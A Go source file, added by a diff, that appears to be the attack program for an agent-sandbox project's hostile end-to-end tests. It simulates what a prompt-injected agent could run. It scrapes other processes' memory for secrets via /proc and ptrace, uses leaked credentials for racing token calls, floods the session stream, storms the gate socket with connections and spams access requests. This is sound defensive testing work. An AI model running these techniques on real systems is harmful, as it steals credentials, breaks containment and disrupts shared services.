@@ -1,0 +1,616 @@
+// Command attack is the hostile suite's attack program
+// (cmd/mother/hostile_e2e_test.go): what a prompt-injected chick's model
+// could write and run with its bash tool. The test builds it statically,
+// puts it in a channel's files (so it arrives in the chick's /workspace
+// like any file a model wrote there) and has the chick run it. It speaks
+// the project's own wire (pkg/wire, proto/mother/v1, gRPC over the gate's
+// nest socket), tries one door per subcommand, and prints what it got as
+// lines of "KEY value ..." for the test to read; it asserts nothing
+// itself.
+//
+//	attack memscan  -find a,b            search every visible process for a and b
+//	attack race     -n 30 -max 24        concurrent Generate calls with a token
+//	attack generate -max N               one Generate call
+//	attack flood    -size N -count N     a Session streaming big or many ToolEnd events
+//	attack storm    -n 2000              connections to the gate's nest.sock
+//	attack access   -dest d ...          concurrent RequestAccess calls
+//
+// The credentials (-id, -token, -key, -ca in base64) are what the test read
+// from the chick's container: the program assumes they leaked.
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"time"
+
+	"google.golang.org/grpc"
+	"google.golang.org/grpc/credentials"
+	"google.golang.org/grpc/status"
+	"google.golang.org/protobuf/types/known/timestamppb"
+
+	"github.com/mother-chat/mother/pkg/wire"
+	pb "github.com/mother-chat/mother/proto/mother/v1"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		fmt.Fprintln(os.Stderr, "usage: attack memscan|race|generate|flood|storm|access|hold [flags]")
+		os.Exit(2)
+	}
+	cmd, args := os.Args[1], os.Args[2:]
+	fs := flag.NewFlagSet(cmd, flag.ExitOnError)
+	c := &creds{}
+	fs.StringVar(&c.sock, "sock", filepath.Join(wire.GateDir, wire.GateNestSocket), "the gate's nest socket")
+	fs.StringVar(&c.id, "id", os.Getenv("MOTHER_CHICK_ID"), "the chick id")
+	fs.StringVar(&c.token, "token", "", "the chick's nest token")
+	fs.StringVar(&c.key, "key", "", "the chick's gate key")
+	fs.StringVar(&c.ca, "ca", "", "Mother's CA certificate, PEM in base64")
+	find := fs.String("find", "", "memscan: comma-separated secrets to look for")
+	n := fs.Int("n", 30, "race: calls; storm: connections")
+	maxOut := fs.Int("max", 0, "race, generate: max_output_tokens")
+	system := fs.String("system", "HOSTILE", "race, generate: the system prompt (the fake model keys on it)")
+	size := fs.Int("size", 16<<20, "flood: bytes of each event's result")
+	count := fs.Int("count", 40, "flood: events to send")
+	window := fs.Duration("for", 20*time.Second, "flood, storm: how long to keep at it")
+	var dests multi
+	fs.Var(&dests, "dest", "access: a destination to ask for (repeatable)")
+	fs.Parse(args)
+	switch cmd {
+	case "memscan":
+		memscan(strings.Split(*find, ","))
+	case "hold":
+		hold()
+	case "race":
+		c.mustDial()
+		race(c, *n, *maxOut, *system)
+	case "generate":
+		c.mustDial()
+		one(c, "GENERATE", *maxOut, *system)
+	case "flood":
+		c.mustDial()
+		flood(c, *size, *count, *window)
+	case "storm":
+		storm(c, *n, *window)
+	case "access":
+		c.mustDial()
+		access(c, dests)
+	default:
+		fmt.Fprintf(os.Stderr, "attack: unknown command %q\n", cmd)
+		os.Exit(2)
+	}
+}
+
+type multi []string
+
+func (m *multi) String() string     { return strings.Join(*m, ",") }
+func (m *multi) Set(s string) error { *m = append(*m, s); return nil }
+
+// ---- memory -------------------------------------------------------------
+
+// memscan searches every process it can see for the secrets, in every
+// place a process keeps things: environ, cmdline, its memory (through
+// maps and mem), its file descriptors' targets and what they hold, and
+// through ptrace. It prints "FOUND <secret#> pid=<pid> src=<where>" for
+// each hit, "DENIED pid=<pid> src=<where>" for what it could not read,
+// and a control: a child it starts itself (dumpable, its own) holds a
+// marker only in its memory; the same search must find it there.
+func memscan(secrets []string) {
+	marker := fmt.Sprintf("HOSTILE-MARKER-%d-%d", os.Getpid(), time.Now().UnixNano())
+	child := exec.Command("/proc/self/exe", "hold")
+	in, _ := child.StdinPipe()
+	out, _ := child.StdoutPipe()
+	if err := child.Start(); err != nil {
+		fmt.Println("CONTROL error", err)
+	} else {
+		io.WriteString(in, marker+"\n")
+		in.Close()
+		bufio.NewReader(out).ReadString('\n') // "ready"
+		defer child.Process.Kill()
+	}
+	needles := map[string][]byte{"marker": []byte(marker)}
+	for i, s := range secrets {
+		if s != "" {
+			needles["secret"+strconv.Itoa(i)] = []byte(s)
+		}
+	}
+	self := os.Getpid()
+	pids, _ := filepath.Glob("/proc/[0-9]*")
+	seen := 0
+	found := map[string]bool{}
+	report := func(name string, pid int, src string) {
+		k := fmt.Sprintf("%s %d %s", name, pid, src)
+		if !found[k] {
+			found[k] = true
+			fmt.Printf("FOUND %s pid=%d src=%s\n", name, pid, src)
+		}
+	}
+	for _, p := range pids {
+		pid, _ := strconv.Atoi(filepath.Base(p))
+		if pid == self {
+			continue // its own memory holds the secrets it was given
+		}
+		seen++
+		comm, _ := os.ReadFile(p + "/comm")
+		fmt.Printf("PROC pid=%d comm=%s\n", pid, strings.TrimSpace(string(comm)))
+		look := func(src string, b []byte) {
+			for name, nd := range needles {
+				if bytes.Contains(b, nd) {
+					report(name, pid, src)
+				}
+			}
+		}
+		for _, f := range []string{"environ", "cmdline"} {
+			b, err := os.ReadFile(p + "/" + f)
+			if err != nil {
+				fmt.Printf("DENIED pid=%d src=%s\n", pid, f)
+				continue
+			}
+			look(f, b)
+		}
+		scanMem(pid, look)
+		scanFDs(pid, look)
+		scanPtrace(pid, look)
+	}
+	fmt.Printf("SCANNED processes=%d\n", seen)
+	ok := false
+	for k := range found {
+		if strings.HasPrefix(k, "marker ") {
+			ok = true
+		}
+	}
+	if ok {
+		fmt.Println("CONTROL found")
+	} else {
+		fmt.Println("CONTROL missing")
+	}
+}
+
+// hold keeps the line it reads on stdin in its heap and waits.
+func hold() {
+	line, _ := bufio.NewReader(os.Stdin).ReadString('\n')
+	kept := []byte(strings.TrimSpace(line))
+	fmt.Println("ready")
+	time.Sleep(5 * time.Minute)
+	fmt.Println(len(kept))
+}
+
+// scanMem reads every readable mapping of pid through /proc/<pid>/mem.
+func scanMem(pid int, look func(string, []byte)) {
+	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
+	if err != nil {
+		fmt.Printf("DENIED pid=%d src=maps\n", pid)
+		return
+	}
+	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
+	if err != nil {
+		fmt.Printf("DENIED pid=%d src=mem (%v)\n", pid, errors.Unwrap(err))
+		return
+	}
+	defer mem.Close()
+	readAny := false
+	for _, line := range strings.Split(string(maps), "\n") {
+		f := strings.Fields(line)
+		if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
+			continue
+		}
+		lo, hi, ok := strings.Cut(f[0], "-")
+		if !ok {
+			continue
+		}
+		a, _ := strconv.ParseUint(lo, 16, 64)
+		b, _ := strconv.ParseUint(hi, 16, 64)
+		if b-a > 1<<30 || (len(f) >= 6 && f[5] == "[vvar]") {
+			continue
+		}
+		buf := make([]byte, 1<<20)
+		for off := a; off < b; off += uint64(len(buf)) {
+			n := min(uint64(len(buf)), b-off)
+			got, _ := mem.ReadAt(buf[:n], int64(off))
+			if got > 0 {
+				readAny = true
+				look("mem", buf[:got])
+			}
+		}
+	}
+	if !readAny {
+		fmt.Printf("DENIED pid=%d src=mem (nothing readable)\n", pid)
+	}
+}
+
+// scanFDs reads pid's fd targets and, where it can open them without
+// blocking, what they hold.
+func scanFDs(pid int, look func(string, []byte)) {
+	dir := fmt.Sprintf("/proc/%d/fd", pid)
+	ents, err := os.ReadDir(dir)
+	if err != nil {
+		fmt.Printf("DENIED pid=%d src=fd\n", pid)
+		return
+	}
+	for _, e := range ents {
+		p := filepath.Join(dir, e.Name())
+		target, err := os.Readlink(p)
+		if err == nil {
+			look("fd-target", []byte(target))
+		}
+		fd, err := syscall.Open(p, syscall.O_RDONLY|syscall.O_NONBLOCK, 0)
+		if err != nil {
+			continue
+		}
+		buf := make([]byte, 1<<20)
+		n, _ := syscall.Read(fd, buf)
+		if n > 0 {
+			look("fd-content", buf[:n])
+		}
+		syscall.Close(fd)
+	}
+}
+
+// scanPtrace attaches to pid and, if that works, reads its memory again
+// as its tracer.
+func scanPtrace(pid int, look func(string, []byte)) {
+	if err := syscall.PtraceAttach(pid); err != nil {
+		fmt.Printf("DENIED pid=%d src=ptrace (%v)\n", pid, err)
+		return
+	}
+	var ws syscall.WaitStatus
+	syscall.Wait4(pid, &ws, syscall.WALL, nil)
+	fmt.Printf("PTRACE attached pid=%d\n", pid)
+	scanMem(pid, func(_ string, b []byte) { look("ptrace", b) })
+	syscall.PtraceDetach(pid)
+}
+
+// ---- the nest, with leaked credentials ----------------------------------
+
+type creds struct {
+	sock, id, token, key, ca string
+	preface                  bool
+	conn                     *grpc.ClientConn
+	client                   pb.ChickServiceClient
+}
+
+func (c *creds) ctx(ctx context.Context) context.Context {
+	return wire.Credentials(ctx, c.id, c.token)
+}
+
+// dial connects to the nest through the gate's socket, with or without
+// the gate's preface line ("MOTHER-GATE/1 <chick id> <gate key>"): a gate
+// that wants one closes a connection without it.
+func (c *creds) dial(preface bool) (*grpc.ClientConn, error) {
+	pem, err := base64.StdEncoding.DecodeString(c.ca)
+	if err != nil {
+		return nil, fmt.Errorf("-ca: %w", err)
+	}
+	pool := x509.NewCertPool()
+	if !pool.AppendCertsFromPEM(pem) {
+		return nil, errors.New("-ca: no certificate")
+	}
+	tc := credentials.NewTLS(&tls.Config{RootCAs: pool, ServerName: wire.NestServerName, MinVersion: tls.VersionTLS13})
+	sock := c.sock
+	return grpc.NewClient("passthrough:///nest",
+		grpc.WithTransportCredentials(tc),
+		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) {
+			var d net.Dialer
+			conn, err := d.DialContext(ctx, "unix", sock)
+			if err != nil {
+				return nil, err
+			}
+			if preface {
+				if _, err := fmt.Fprintf(conn, "%s %s %s\n", wire.GatePreface, c.id, c.key); err != nil {
+					conn.Close()
+					return nil, err
+				}
+			}
+			return conn, nil
+		}),
+		grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(64<<20), grpc.MaxCallSendMsgSize(64<<20)),
+	)
+}
+
+// mustDial finds how the gate wants to be spoken to (Join answers: the
+// same every time) and keeps that connection.
+func (c *creds) mustDial() {
+	var last error
+	for _, preface := range []bool{false, true} {
+		conn, err := c.dial(preface)
+		if err != nil {
+			last = err
+			continue
+		}
+		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+		_, err = pb.NewChickServiceClient(conn).Join(c.ctx(ctx), &pb.JoinRequest{Version: "attack"})
+		cancel()
+		if err == nil {
+			c.preface, c.conn, c.client = preface, conn, pb.NewChickServiceClient(conn)
+			fmt.Printf("JOINED preface=%v\n", preface)
+			return
+		}
+		conn.Close()
+		last = err
+	}
+	fmt.Printf("JOIN failed %s\n", oneLine(last))
+	os.Exit(1)
+}
+
+func oneLine(err error) string {
+	if err == nil {
+		return "ok"
+	}
+	if s, ok := status.FromError(err); ok {
+		return strings.ReplaceAll(s.Code().String()+": "+s.Message(), "\n", " ")
+	}
+	return strings.ReplaceAll(err.Error(), "\n", " ")
+}
+
+// generate makes one call and returns its usage or error.
+func (c *creds) generate(maxOut int, system string) (*pb.Usage, error) {
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	st, err := c.client.Generate(c.ctx(ctx), &pb.GenerateRequest{
+		System:          system,
+		Messages:        []*pb.ModelMessage{{Role: pb.Role_ROLE_USER, Content: "say ok"}},
+		MaxOutputTokens: int32(maxOut),
+	})
+	if err != nil {
+		return nil, err
+	}
+	for {
+		m, err := st.Recv()
+		if err != nil {
+			return nil, err
+		}
+		if d := m.GetDone(); d != nil {
+			return d.GetUsage(), nil
+		}
+	}
+}
+
+func one(c *creds, what string, maxOut int, system string) {
+	u, err := c.generate(maxOut, system)
+	if err != nil {
+		fmt.Printf("%s refused %s\n", what, oneLine(err))
+		return
+	}
+	fmt.Printf("%s answered in=%d out=%d\n", what, u.GetInputTokens(), u.GetOutputTokens())
+}
+
+// race: one call on its own (the control), then n at once.
+func race(c *creds, n, maxOut int, system string) {
+	one(c, "CONTROL", maxOut, system)
+	var mu sync.Mutex
+	answered, tokens := 0, int64(0)
+	errs := map[string]int{}
+	var wg sync.WaitGroup
+	start := make(chan struct{})
+	for range n {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			<-start
+			u, err := c.generate(maxOut, system)
+			mu.Lock()
+			defer mu.Unlock()
+			if err != nil {
+				errs[oneLine(err)]++
+				return
+			}
+			answered++
+			tokens += u.GetInputTokens() + u.GetOutputTokens()
+		}()
+	}
+	close(start)
+	wg.Wait()
+	fmt.Printf("RACE calls=%d answered=%d tokens=%d refused=%d\n", n, answered, tokens, n-answered)
+	var keys []string
+	for k := range errs {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	for _, k := range keys {
+		fmt.Printf("RACEERR %d %s\n", errs[k], k)
+	}
+}
+
+// flood opens a Session with the chick's credentials and streams ToolEnd
+// events after what Mother has stored, count of them with results of
+// size bytes, for at most window; when the session ends (replaced by the
+// chick's own, or closed by Mother) it opens another and goes on from
+// Mother's ack. It prints what it sent and any cancellation Mother sent.
+func flood(c *creds, size, count int, window time.Duration) {
+	result := strings.Repeat("F", size)
+	deadline := time.Now().Add(window)
+	sent, bytesSent := 0, int64(0)
+	var lastErr error
+	for sent < count && time.Now().Before(deadline) {
+		ctx, cancel := context.WithDeadline(context.Background(), deadline)
+		st, err := c.client.Session(c.ctx(ctx))
+		if err != nil {
+			lastErr = err
+			cancel()
+			time.Sleep(200 * time.Millisecond)
+			continue
+		}
+		if err := st.Send(&pb.SessionRequest{Kind: &pb.SessionRequest_Hello{Hello: &pb.SessionHello{}}}); err != nil {
+			lastErr = err
+			cancel()
+			continue
+		}
+		first, err := st.Recv()
+		if err != nil {
+			lastErr = err
+			cancel()
+			if strings.Contains(oneLine(err), "Unauthenticated") || strings.Contains(oneLine(err), "ended") {
+				break
+			}
+			time.Sleep(200 * time.Millisecond)
+			continue
+		}
+		seq := first.GetAck().GetSeq()
+		cancelled := make(chan string, 1)
+		go func() {
+			for {
+				m, err := st.Recv()
+				if err != nil {
+					return
+				}
+				if cm := m.GetCancel(); cm != nil {
+					select {
+					case cancelled <- cm.GetMessage():
+					default:
+					}
+				}
+			}
+		}()
+		for sent < count && time.Now().Before(deadline) {
+			seq++
+			ev := &pb.AgentEvent{Seq: seq, Time: timestamppb.Now(), Kind: &pb.AgentEvent_ToolEnd{ToolEnd: &pb.ToolEnd{
+				Call:   &pb.ToolCall{Id: "flood-" + strconv.FormatUint(seq, 10), Name: "bash", Label: "flood"},
+				Result: result,
+			}}}
+			if err = st.Send(&pb.SessionRequest{Kind: &pb.SessionRequest_Event{Event: ev}}); err != nil {
+				lastErr = err
+				break
+			}
+			sent++
+			bytesSent += int64(size)
+			select {
+			case m := <-cancelled:
+				fmt.Printf("CANCELLED %s\n", strings.ReplaceAll(m, "\n", " "))
+			default:
+			}
+		}
+		if err == nil {
+			st.CloseSend()
+			_, lastErr = st.Recv()
+		}
+		cancel()
+		select {
+		case m := <-cancelled:
+			fmt.Printf("CANCELLED %s\n", strings.ReplaceAll(m, "\n", " "))
+		default:
+		}
+		if s := oneLine(lastErr); strings.Contains(s, "Unauthenticated") || strings.Contains(s, "the chick has ended") {
+			break
+		}
+	}
+	fmt.Printf("FLOOD sent=%d bytes=%d last=%s\n", sent, bytesSent, oneLine(lastErr))
+}
+
+// ---- the gate -----------------------------------------------------------
+
+// storm opens n connections to the gate's nest socket (no credentials
+// needed to connect) and holds them for window. The first few do a TLS
+// handshake with Mother through the gate, with the gate's preface if it
+// wants one: the control that a connection of this chick's was served.
+// It prints how many connected, how many the gate closed, and the
+// controls' outcome.
+func storm(c *creds, n int, window time.Duration) {
+	pem, _ := base64.StdEncoding.DecodeString(c.ca)
+	pool := x509.NewCertPool()
+	pool.AppendCertsFromPEM(pem)
+	handshake := func(preface bool) error {
+		conn, err := net.DialTimeout("unix", c.sock, 5*time.Second)
+		if err != nil {
+			return err
+		}
+		defer conn.Close()
+		conn.SetDeadline(time.Now().Add(10 * time.Second))
+		if preface {
+			fmt.Fprintf(conn, "%s %s %s\n", wire.GatePreface, c.id, c.key)
+		}
+		tc := tls.Client(conn, &tls.Config{RootCAs: pool, ServerName: wire.NestServerName, MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"}})
+		return tc.Handshake()
+	}
+	preface := false
+	err := handshake(false)
+	if err != nil {
+		if err2 := handshake(true); err2 == nil {
+			preface, err = true, nil
+		}
+	}
+	fmt.Printf("CONTROL handshake=%s preface=%v\n", oneLine(err), preface)
+	deadline := time.Now().Add(window)
+	var conns []net.Conn
+	dialed, failed := 0, 0
+	var firstErr error
+	for i := 0; i < n && time.Now().Before(deadline); i++ {
+		conn, err := net.DialTimeout("unix", c.sock, 2*time.Second)
+		if err != nil {
+			failed++
+			if firstErr == nil {
+				firstErr = err
+			}
+			continue
+		}
+		dialed++
+		if preface {
+			conn.SetWriteDeadline(time.Now().Add(time.Second))
+			fmt.Fprintf(conn, "%s %s %s\n", wire.GatePreface, c.id, c.key)
+		}
+		conns = append(conns, conn)
+	}
+	fmt.Printf("STORM opened=%d failed=%d first-error=%s\n", dialed, failed, oneLine(firstErr))
+	// Which of them did the gate close (EOF or reset within a moment)?
+	time.Sleep(2 * time.Second)
+	closed := 0
+	for _, conn := range conns {
+		conn.SetReadDeadline(time.Now().Add(5 * time.Millisecond))
+		_, err := conn.Read(make([]byte, 1))
+		var ne net.Error
+		if err != nil && !(errors.As(err, &ne) && ne.Timeout()) {
+			closed++
+		}
+	}
+	fmt.Printf("STORM closed-by-gate=%d of %d\n", closed, len(conns))
+	if left := time.Until(deadline); left > 0 {
+		time.Sleep(left)
+	}
+	for _, conn := range conns {
+		conn.Close()
+	}
+	// After the storm this chick's connections are served again.
+	fmt.Printf("AFTER handshake=%s\n", oneLine(handshake(preface)))
+}
+
+// ---- approvals ----------------------------------------------------------
+
+// access asks for every destination at once and prints each answer.
+func access(c *creds, dests []string) {
+	var wg sync.WaitGroup
+	var mu sync.Mutex
+	for _, d := range dests {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+			defer cancel()
+			r, err := c.client.RequestAccess(c.ctx(ctx), &pb.RequestAccessRequest{Destination: d, Reason: "hostile test"})
+			mu.Lock()
+			defer mu.Unlock()
+			if err != nil {
+				fmt.Printf("ACCESS %s error %s\n", d, oneLine(err))
+				return
+			}
+			fmt.Printf("ACCESS %s granted=%v message=%s\n", d, r.GetGranted(), strings.ReplaceAll(r.GetMessage(), "\n", " "))
+		}()
+		time.Sleep(300 * time.Millisecond) // in order, so the first post is the first destination's
+	}
+	wg.Wait()
+}
